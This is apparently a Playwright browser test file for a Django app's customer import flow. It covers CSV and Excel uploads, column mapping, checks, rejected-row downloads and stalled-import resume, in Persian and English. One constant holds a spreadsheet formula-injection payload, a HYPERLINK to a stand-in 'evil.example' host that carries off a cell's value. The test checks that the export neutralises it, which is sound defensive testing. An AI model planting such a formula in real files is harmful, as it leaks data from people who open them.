"""A manager imports a shop's own file in real Chromium, fa and en, desktop and phone: upload, choose the
columns, check, import, download the rows left out; the same header again is offered the same columns.

The live server runs in this process and a pass runs in line when its request commits
(``PEYGIR_BACKGROUND_THREADS`` is off in tests), so the check is over when its page opens. The
progress of an import under way is shown on a run a worker left in the middle (its rows read,
its heartbeat fresh), then stalled (its heartbeat old): the page polls, survives a reload, and
offers Resume.
"""

import csv
import datetime
import io
import re

import pytest
from django.utils import timezone
from openpyxl import Workbook
from playwright.sync_api import expect

from customers import imports
from customers.models import Customer, ImportRun
from tests.core.test_persian_digits import latin_digits, shown_text, without_addresses
from tests.customers.factories import SHOP_HEADER, SHOP_MAPPING, checked_run, csv_bytes, shop_rows
from tests.factories import CustomerFactory

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LANGS_AND_DEVICES = [("fa", "desktop"), ("fa", "phone"), ("en", "desktop"), ("en", "phone")]
WIDTHS = {"desktop": 1366, "phone": 390}
FILE_NAME = "مشتریان-1404.csv"  # the file's own name, digits and all: shown as it is
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
PERSIAN_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")


@pytest.fixture(autouse=True)
def _import_dir(settings, tmp_path):
    settings.PEYGIR_IMPORT_DIR = tmp_path


def number(value: int, lang: str) -> str:
    return str(value).translate(PERSIAN_DIGITS) if lang == "fa" else str(value)


def opened(open_page, manager, lang: str, device: str):
    page = open_page(manager, lang, device)
    page.set_viewport_size({"width": WIDTHS[device], "height": 900 if device == "desktop" else 844})
    return page


def looks_right(page, lang: str) -> None:
    """RTL in Persian, no Latin digit in what a Persian reader reads, nothing wider than the window."""
    expect(page.locator("html")).to_have_attribute("dir", "rtl" if lang == "fa" else "ltr")
    scroll_width, window_width = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert scroll_width <= window_width, f"{page.url} scrolls sideways: {scroll_width} > {window_width}"
    for control in page.locator("main select, main button, main .btn, main progress").all():
        if control.is_visible():
            box = control.bounding_box()
            assert box["x"] >= 0 and box["x"] + box["width"] <= window_width + 0.5, (page.url, box)
    if lang == "fa":
        shown = shown_text(page.content()).replace(FILE_NAME, "")  # the file's own name (the title has no <bdi>)
        found = latin_digits(without_addresses(shown), page.url)
        assert not found, "\n".join(found)


def upload(page, content: bytes, *, name=FILE_NAME, mime="text/csv") -> None:
    page.goto("/customers/import/")
    page.locator("input[name=kind][value=customers]").check()
    page.set_input_files("#id_file", files=[{"name": name, "mimeType": mime, "buffer": content}])
    with page.expect_navigation():
        page.locator("#submit-id-submit").click()
    expect(page).to_have_url(re.compile(r"/customers/import/[0-9a-f-]+/columns/$"))


def press(page, testid_or_selector: str) -> None:
    with page.expect_navigation():
        page.locator(testid_or_selector).click()


def shop_file() -> bytes:
    """The shop's own headers; two good rows, one already in Peygir, two that cannot be imported."""
    rows = shop_rows(3)
    rows += [["رضا بی‌شماره", "12345", "C-8"], [FORMULA, "0935", ""]]
    return csv_bytes(rows)


@pytest.mark.parametrize(("lang", "device"), LANGS_AND_DEVICES)
def test_a_shop_s_file_is_mapped_checked_imported_and_its_rejected_rows_downloaded(
    open_page, manager, shoot, lang, device
):
    CustomerFactory(name="نام قدیمی", mobile="", reference="C-0")  # the file renames it
    page = opened(open_page, manager, lang, device)
    page.goto("/customers/import/")
    expect(page.get_by_test_id("upload-form")).to_be_visible()
    looks_right(page, lang)
    shoot(page, "import-upload")

    upload(page, shop_file())
    expect(page.get_by_test_id("mapping-remembered")).to_have_count(0)
    selects = page.get_by_test_id("mapping-select")
    expect(selects).to_have_count(3)
    for header in SHOP_HEADER:
        expect(page.get_by_test_id("mapping-form")).to_contain_text(header)
    expect(page.get_by_test_id("mapping-form")).to_contain_text("09350000001")  # a sample cell, as in the file
    for header, field in zip(SHOP_HEADER, SHOP_MAPPING, strict=True):
        select = page.get_by_label(header, exact=True)
        expect(select).to_have_value("")  # Peygir does not know the shop's words
        select.select_option(field)
    looks_right(page, lang)
    shoot(page, "import-columns")

    press(page, "[data-testid=mapping-form] button[type=submit]")
    expect(page.get_by_test_id("import-progress")).to_be_visible()
    expect(page.get_by_test_id("import-bar")).to_have_attribute("value", "100")
    expect(page.get_by_test_id("will-create")).to_contain_text(number(2, lang))
    expect(page.get_by_test_id("will-update")).to_contain_text(number(1, lang))
    expect(page.get_by_test_id("error-count")).to_contain_text(number(2, lang))
    expect(page.get_by_test_id("rejection-line")).to_have_count(2)
    expect(page.get_by_test_id("rejection-line").first).to_have_text(number(5, lang))
    assert Customer.objects.count() == 1  # the check writes nothing
    looks_right(page, lang)
    shoot(page, "import-run-checked")

    press(page, "[data-testid=import-button]")
    summary = page.get_by_test_id("import-summary")
    expect(summary).to_be_visible()
    expect(page.get_by_test_id("created")).to_contain_text(number(2, lang))
    expect(page.get_by_test_id("updated")).to_contain_text(number(1, lang))
    expect(page.get_by_test_id("rejected")).to_contain_text(number(2, lang))
    assert set(Customer.objects.values_list("reference", flat=True)) == {"C-0", "C-1", "C-2"}
    looks_right(page, lang)
    shoot(page, "import-run-done")

    with page.expect_download() as download:
        page.get_by_test_id("rejected-download").click()
    text = download.value.path().read_bytes().decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text))
    assert header[:3] == SHOP_HEADER and len(header) == 4
    assert [row[:3] for row in rows] == [["رضا بی‌شماره", "12345", "C-8"], ["'" + FORMULA, "0935", ""]]
    assert all(row[3] for row in rows)  # each says why
    if lang == "fa":
        assert re.search("[\u0600-\u06ff]", header[3] + rows[0][3])

    upload(page, shop_file())  # the same header again
    expect(page.get_by_test_id("mapping-remembered")).to_be_visible()
    for header, field in zip(SHOP_HEADER, SHOP_MAPPING, strict=True):
        expect(page.get_by_label(header, exact=True)).to_have_value(field)
    looks_right(page, lang)
    shoot(page, "import-columns-remembered")
    press(page, "[data-testid=mapping-form] button[type=submit]")
    expect(page.get_by_test_id("nothing-to-import")).to_be_visible()  # every good row is in Peygir now
    expect(page.get_by_test_id("import-button")).to_have_count(0)
    assert ImportRun.objects.count() == 2

    page.goto("/customers/import/")
    expect(page.get_by_test_id("recent-imports").locator("tbody tr")).to_have_count(2)
    looks_right(page, lang)
    shoot(page, "import-upload-recent")


@pytest.mark.parametrize(("lang", "device"), LANGS_AND_DEVICES)
def test_an_import_under_way_shows_its_progress_after_a_reload_and_a_stalled_one_resumes(
    open_page, manager, shoot, lang, device
):
    run = checked_run(manager, csv_bytes(shop_rows(40)), SHOP_MAPPING, name=FILE_NAME, language=lang)
    ImportRun.objects.filter(pk=run.pk).update(
        phase=ImportRun.Phase.IMPORTING, rows_done=10, next_line=12, heartbeat_at=timezone.now()
    )
    page = opened(open_page, manager, lang, device)
    url = f"/customers/import/{run.pk}/"

    page.goto(url)
    for visit in ("first", "after a reload"):
        if visit == "after a reload":
            page.reload()
        progress = page.locator("#import-progress")
        expect(progress).to_have_attribute("hx-get", url)  # it keeps asking how far it has got
        expect(progress).to_have_attribute("hx-trigger", re.compile("every"))
        expect(page.get_by_test_id("import-bar")).to_have_attribute("value", "25")  # 10 rows of 40
        expect(page.get_by_test_id("import-percent")).to_have_text("۲۵٪" if lang == "fa" else "25%")
        expect(page.get_by_test_id("import-phase")).to_be_visible()
        expect(progress).to_contain_text(number(40, lang))
    looks_right(page, lang)
    shoot(page, "import-run-progress")

    ImportRun.objects.filter(pk=run.pk).update(rows_done=30, heartbeat_at=timezone.now())
    expect(page.get_by_test_id("import-bar")).to_have_attribute("value", "75", timeout=5_000)  # polled, no reload

    stopped = timezone.now() - imports.STALLED_AFTER - datetime.timedelta(minutes=1)
    ImportRun.objects.filter(pk=run.pk).update(rows_done=0, next_line=0, heartbeat_at=stopped)
    stalled = page.get_by_test_id("import-stalled")
    expect(stalled).to_be_visible(timeout=5_000)  # the next poll finds it stalled
    expect(page.locator("#import-progress")).not_to_have_attribute("hx-get", url)  # and stops asking
    looks_right(page, lang)
    shoot(page, "import-run-stalled")

    press(page, "[data-testid=import-stalled] button[type=submit]")
    expect(page.get_by_test_id("import-summary")).to_be_visible()
    expect(page.get_by_test_id("created")).to_contain_text(number(40, lang))
    assert Customer.objects.count() == 40


@pytest.mark.parametrize("lang", ["fa", "en"])
def test_an_excel_workbook_is_imported_with_its_columns_known_by_name(open_page, manager, shoot, lang):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["نام", "موبایل", "ایمیل", "پایان قرارداد"])
    sheet.append(["سارا کاظمی", 9351110009, "sara@example.com", datetime.datetime(2027, 3, 1)])  # Excel's number
    sheet.append(["نرگس", "0935 111 0010", "not-an-email", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    page = opened(open_page, manager, lang, "desktop")

    upload(
        page,
        buffer.getvalue(),
        name="مشتریان.xlsx",
        mime="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )

    for header, field in (("نام", "name"), ("موبایل", "mobile"), ("ایمیل", "email"), ("پایان قرارداد", "contract_end")):
        expect(page.get_by_label(header, exact=True)).to_have_value(field)
    expect(page.get_by_test_id("mapping-form")).to_contain_text("2027-03-01")
    shoot(page, "import-columns-xlsx")
    press(page, "[data-testid=mapping-form] button[type=submit]")
    expect(page.get_by_test_id("will-create")).to_contain_text(number(1, lang))
    expect(page.get_by_test_id("error-count")).to_contain_text(number(1, lang))
    press(page, "[data-testid=import-button]")
    expect(page.get_by_test_id("import-summary")).to_be_visible()
    sara = Customer.objects.get()
    assert (sara.mobile, sara.email) == ("09351110009", "sara@example.com")  # the leading zero Excel dropped
    assert str(sara.contracts.get().ends_on) == "2027-03-01"
